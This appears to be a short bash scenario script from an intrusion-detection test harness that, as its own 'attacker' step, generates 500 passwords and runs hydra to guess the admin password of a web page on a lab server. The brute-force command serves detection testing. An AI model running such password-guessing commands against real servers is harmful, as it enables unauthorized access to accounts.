# shellcheck shell=bash
# about: 500 passwords for a web page (hydra)
# type: attack
# kind: password_guessing
# target: server
# source: attacker
# tools: hydra nginx
# within_ms: 10000
play() {
	passwords 500 >"$WORK/list"
	on attacker timeout 30 hydra -I -o /dev/null -l admin -P "$WORK/list" -t 8 "http-get://$SERVER_IP/secret/"
}
